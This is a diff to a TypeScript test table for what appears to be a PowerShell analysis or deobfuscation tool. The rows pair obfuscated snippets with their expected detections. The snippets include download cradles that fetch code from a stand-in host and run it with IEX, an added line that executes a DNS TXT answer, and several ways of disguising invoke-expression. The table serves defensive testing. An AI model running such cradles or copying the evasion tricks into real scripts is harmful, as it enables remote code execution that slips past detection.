@@ -6,6 +6,7 @@ const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('b
 const CALLS: readonly (readonly [name: string, source: string, ...expected: string[]])[] = [
   ['a download cradle', "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')", 'GET https://a.example/x', 'eval invoke-expression'],
   ['aliases and pipes', 'iwr https://a.example/x | iex', 'GET https://a.example/x', 'eval invoke-expression'],
+  ['an answer of the name service', '(nslookup -type=txt a.example 192.0.2.1)[-1] | iex', 'DNS a.example', 'eval invoke-expression'],
   ['backticks', "i`E`x 'whoami'", 'powershell: whoami'],
   ['case', "inVoKe-eXpRessiOn 'whoami'", 'powershell: whoami'],
   ['a name built with +', "& ('I'+'EX') 'whoami'", 'powershell: whoami'],
